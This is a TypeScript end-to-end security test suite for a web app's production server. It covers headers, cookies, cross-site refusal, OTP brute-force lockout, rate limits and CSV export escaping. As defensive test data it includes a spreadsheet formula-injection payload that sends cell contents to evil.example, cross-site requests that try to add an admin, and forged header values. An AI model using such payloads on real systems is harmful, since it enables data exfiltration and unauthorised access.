/**
 * The defences around the endpoints: response headers, cookie flags, cross-site requests,
 * brute force and the rate limits, against the production server.
 */
import { expect, test } from "../test";
import { clientAddress } from "../client-address";
import { waitForMail } from "../mailbox/client";
import { adminCredentials, freshCode, logInAsAdmin } from "../staff";
import { actionNamed, callAction, serverActions } from "./actions";
import { newClient } from "./callers";
import { csvFile, lead } from "./endpoints";

const EVIL = { origin: "https://evil.example" };

/**
 * Every directive the production build must send but script-src, written out here rather than read
 * from the config. script-src varies by response (lib/security/content-security-policy.mjs).
 */
const CONTENT_SECURITY_POLICY = {
  "default-src": "'self'",
  "style-src": "'self' 'unsafe-inline'",
  "img-src": "'self' data: blob:",
  "font-src": "'self'",
  "connect-src": "'self'",
  "frame-src": "https://www.youtube-nocookie.com",
  "frame-ancestors": "'none'",
  "base-uri": "'none'",
  "form-action": "'self'",
  "object-src": "'none'",
  "report-uri": "/api/csp-reports",
};

/** This origin's files, plus (on pages) the hashes of a prerendered page's inline scripts or a request's nonce; never 'unsafe-inline'. */
const SCRIPT_SOURCES = /^'self'( '(sha256-[A-Za-z0-9+/]+=*|nonce-[A-Za-z0-9+/_-]+=*)')*$/;

/** A Content-Security-Policy header as directive → sources. */
const policy = (header: string | undefined) =>
  Object.fromEntries(
    (header ?? "")
      .split(";")
      .map((directive) => directive.trim().split(/\s+/))
      .filter((parts) => parts[0])
      .map(([name, ...sources]) => [name, sources.join(" ")]),
  );

test("pages and APIs carry the security headers, HSTS included in production", async () => {
  const client = await newClient();
  for (const path of ["/", "/contact", "/admisson?tab=medical", "/admin", "/api/college/list", "/api/auth/me", "/no-such-page"]) {
    const headers = (await client.get(path, { maxRedirects: 0 })).headers();
    const { "script-src": scriptSources, ...others } = policy(headers["content-security-policy"]);
    expect(others, path).toEqual(CONTENT_SECURITY_POLICY);
    expect(scriptSources, path).toMatch(path.startsWith("/api/") ? /^'self'$/ : SCRIPT_SOURCES);
    expect(headers["x-frame-options"], path).toBe("DENY");
    expect(headers["permissions-policy"], path).toBe("camera=(), microphone=(), geolocation=()");
    expect(headers["x-content-type-options"], path).toBe("nosniff");
    expect(headers["referrer-policy"], path).toBe("strict-origin-when-cross-origin");
    expect(headers["strict-transport-security"], path).toMatch(/max-age=\d{8}/);
    expect(headers["x-powered-by"], path).toBeUndefined();
  }
  await client.dispose();
});

test("every answer carries X-Request-Id: the caller's own when it looks like one, else a new one", async () => {
  const client = await newClient();
  const script = /<script[^>]+src="(\/_next\/static\/[^"]+\.js)"/.exec(await (await client.get("/")).text())?.[1];
  expect(script).toBeTruthy();
  // Prerendered pages and views, pages rendered per request, the panel, the API (Auth.js's own
  // route too, and the lead doors that skip proxy.ts), a redirect, a missing page and a static file.
  const paths = [
    "/",
    "/contact",
    "/admisson?tab=medical",
    "/admisson?q=delhi",
    "/admin",
    "/admin/dashboard",
    "/api/college/list",
    "/api/auth/me",
    "/api/auth/session",
    "/api/contact",
    "/api/webhooks/meta",
    "/university/HERIOT%20WATT%20University",
    "/no-such-page",
    script!,
  ];
  const uuid = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/;
  for (const path of paths) {
    const made = (await client.get(path, { maxRedirects: 0 })).headers()["x-request-id"];
    expect(made, path).toMatch(uuid);
    const given = await client.get(path, { maxRedirects: 0, headers: { "x-request-id": "edge-7f3a.1:2" } });
    expect(given.headers()["x-request-id"], path).toBe("edge-7f3a.1:2");
    // Anything that could forge a log line or fill it is replaced.
    for (const forged of ["a b", "x".repeat(129), 'id"}']) {
      const answer = await client.get(path, { maxRedirects: 0, headers: { "x-request-id": forged } });
      expect(answer.headers()["x-request-id"], `${path} given ${forged}`).toMatch(uuid);
    }
  }
  const ids = await Promise.all([1, 2].map(async () => (await client.get("/")).headers()["x-request-id"]));
  expect(ids[0]).not.toBe(ids[1]);
  await client.dispose();
});

test("the session cookie is httpOnly and SameSite=Lax, and a staff list is never cached", async () => {
  const client = await newClient();
  const admin = await logInAsAdmin(await newClient());
  const response = await client.post("/api/admin/", { data: { ...admin, code: await freshCode(admin.totpSecret!) } });
  expect(response.status()).toBe(200);
  const session = response
    .headersArray()
    .find((header) => header.name.toLowerCase() === "set-cookie" && /session-token=/.test(header.value));
  expect(session?.value).toMatch(/HttpOnly/i);
  expect(session?.value).toMatch(/SameSite=Lax/i);
  expect(session?.value).toMatch(/Path=\//);
  expect((await client.get("/api/contact")).headers()["cache-control"]).toContain("no-store");
  await client.dispose();
});

test("a cross-site request with the admin's cookie is refused, through a route or a server action", async () => {
  const admin = await newClient();
  await logInAsAdmin(admin);
  const college = await admin.post("/api/college/add", { data: { collegeName: "Cross-site College" }, headers: EVIL });
  expect(college.status()).toBe(403);
  expect(((await college.json()) as { message: string }).message).toMatch(/only be sent from/);
  expect((await admin.delete("/api/blog/delete/anything", { headers: EVIL })).status()).toBe(403);
  expect((await admin.post("/api/contact", { data: lead(), headers: EVIL })).status()).toBe(403);
  expect((await admin.post("/api/admin/", { data: adminCredentials(), headers: EVIL })).status()).toBe(403);

  // A server action posted from another site is refused before it runs.
  const { response, text } = await callAction(
    admin,
    actionNamed("addStaffMember"),
    [{ name: "Mallory", username: "mallory", role: "ADMIN" }],
    EVIL,
  );
  expect(response.status()).toBe(403);
  expect(text).toMatch(/only be sent from/);
  const staffList = await admin.get("/admin/staff");
  expect(await staffList.text()).not.toContain("mallory");
  await admin.dispose();
});

test("a form posted to a server action from another site without JavaScript is refused with a 403, not a 500", async () => {
  // A form of another site's page, sent by the browser itself (no JavaScript): multipart, the
  // action's id in the body, no Next-Action header. Next.js refuses it too, as a 500.
  const action = serverActions().find((candidate) => !candidate.page.startsWith("/admin"))!;
  const client = await newClient();
  for (const origin of ["https://evil.example", "null"]) {
    const response = await client.post(action.page, {
      headers: { origin },
      multipart: { [`$ACTION_ID_${action.id}`]: "", name: "Mallory" },
      maxRedirects: 0,
    });
    expect(response.status(), `${action.page} from ${origin}`).toBe(403);
    expect(((await response.json()) as { message: string }).message).toMatch(/only be sent from/);
  }
  await client.dispose();
});

test("five wrong codes for an account, each from a new client address, burn its code: the right one after them is refused", async () => {
  const owner = await newClient();
  const stamp = `${Date.now().toString(36)}${Math.floor(Math.random() * 1e4)}`;
  const who = {
    name: "Brute Target",
    email: `brute-${stamp}@example.com`,
    mobile: `96${String(Math.floor(Math.random() * 1e8)).padStart(8, "0")}`,
    password: `orchard-${stamp}`,
  };
  expect((await owner.post("/api/auth/register", { data: who })).status()).toBe(200);
  expect((await owner.post("/api/auth/login", { data: { email: who.email, password: who.password } })).status()).toBe(200);
  const code = /\b(\d{6})\b/.exec(await waitForMail(who.email, /^Your login code/))![1]!;
  const wrong = code === "000000" ? "111111" : "000000";

  const answers: { status: number; message: string }[] = [];
  // From the client that did the password step (the code step needs its cookie), each try from another address.
  for (let attempt = 1; attempt <= 6; attempt++) {
    const otp = attempt <= 5 ? wrong : code;
    const answer = await owner.post("/api/auth/verify-otp", {
      data: { email: who.email, otp },
      headers: { "x-forwarded-for": clientAddress() },
    });
    answers.push({ status: answer.status(), message: ((await answer.json()) as { message: string }).message });
  }
  const invalid = { status: 401, message: "That code is not valid. Check the e-mail and try again." };
  const burnt = { status: 401, message: "That code has expired or been used. Log in again to get a new one." };
  expect(answers).toEqual([invalid, invalid, invalid, invalid, burnt, burnt]);
  await owner.dispose();
});

test("the rate limits answer 429 with Retry-After: enquiries per address, staff log-ins per username from any address", async () => {
  const client = await newClient();
  const statuses: number[] = [];
  for (let i = 0; i < 11; i++) statuses.push((await client.post("/api/contact", { data: lead() })).status());
  expect(statuses.slice(0, 10)).toEqual(Array(10).fill(200));
  const limited = await client.post("/api/contact", { data: lead() });
  expect(limited.status()).toBe(429);
  expect(Number(limited.headers()["retry-after"])).toBeGreaterThan(0);
  expect(((await limited.json()) as { message: string }).message).toMatch(/Too many/);

  // Ten wrong passwords for a username, each from an address of its own, back that username off
  // everywhere for a while (lib/staff/password-attempts.ts): the eleventh is refused unchecked.
  const username = `nobody-${Date.now().toString(36)}`;
  const answers: number[] = [];
  for (let i = 0; i < 10; i++) {
    const guesser = await newClient();
    answers.push((await guesser.post("/api/admin/", { data: { username, password: `guess-${i}` } })).status());
    await guesser.dispose();
  }
  expect(answers).toEqual(Array(10).fill(401));
  const elsewhere = await newClient();
  const backedOff = await elsewhere.post("/api/admin/", { data: { username, password: "guess-10" } });
  expect(backedOff.status()).toBe(429);
  expect(Number(backedOff.headers()["retry-after"])).toBeGreaterThan(0);
  await elsewhere.dispose();
  await client.dispose();
});

test("a refusal before the body's end says the connection closes; a refusal of a body read whole keeps it open", async () => {
  const admin = await newClient();
  await logInAsAdmin(admin);
  // A lead file refused at its second row (longer than 8 KB): the rest of the upload is never read.
  const wideRow = `name,email\n"${"a".repeat(1024 * 1024)}",x@example.com\n`;
  const refused = await admin.post("/api/admin/lead-import?step=check&file=wide.csv", {
    data: wideRow,
    headers: { "content-type": "text/csv" },
  });
  expect(refused.status()).toBe(400);
  expect(refused.headers()["connection"]).toBe("close");
  // The same client's next request is answered (a new connection), not reset.
  const next = await admin.post("/api/admin/lead-import?step=check&file=small.csv", {
    data: csvFile(lead()),
    headers: { "content-type": "text/csv" },
  });
  expect(next.status()).toBe(200);
  // A request refused before its body was touched leaves the connection to carry the next one.
  const anonymous = await newClient();
  const unauthorised = await anonymous.post("/api/admin/lead-import?step=check&file=small.csv", {
    data: "name\nAsha\n",
    headers: { "content-type": "text/csv" },
  });
  expect(unauthorised.status()).toBe(401);
  expect(unauthorised.headers()["connection"]).not.toBe("close");
  await Promise.all([admin.dispose(), anonymous.dispose()]);
});

test("every CSV export writes a visitor's formula as text a spreadsheet will not run", async () => {
  const visitor = await newClient();
  const formula = `=HYPERLINK("http://evil.example/?"&A1,"Open")`;
  const tag = `${Date.now().toString(36)}${Math.floor(Math.random() * 1e6)}`;
  const digits = () => String(Math.floor(Math.random() * 1e9)).padStart(9, "0");
  const sent = [
    await visitor.post("/api/contact", { data: { ...lead(), appearedInExam: "yes", examName: formula, examPercentage: 90 } }),
    await visitor.post("/api/franchise", {
      data: {
        orgizationname: `Formula ${tag}`,
        contactperson: "Asha Rao",
        mobile: `8${digits()}`,
        email: `formula-${tag}@example.com`,
        websiteurl: "https://example.com",
        description: formula,
      },
    }),
    await visitor.post("/api/career/email", {
      multipart: {
        name: "Formula Applicant",
        email: `formula-career-${tag}@example.com`,
        phone: `7${digits()}`,
        designation: "Counsellor",
        dob: "1995-04-12",
        address: formula,
        expected_salary: "4 LPA",
        resume: { name: "cv.pdf", mimeType: "application/pdf", buffer: Buffer.from("%PDF-1.4\n%%EOF\n") },
      },
    }),
  ];
  for (const response of sent) expect(response.status(), await response.text()).toBeLessThan(300);
  await visitor.dispose();

  const admin = await newClient();
  await logInAsAdmin(admin);
  for (const path of ["/admin/contacts/export", "/admin/franchise/export", "/admin/careers/export"]) {
    const csv = await (await admin.get(path)).text();
    // The row is there (a header-only file would prove nothing), its formula prefixed with '.
    expect(csv, path).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")"`);
    expect(csv, path).not.toMatch(/(^|,)"?=HYPERLINK/m);
  }
  await admin.dispose();
});
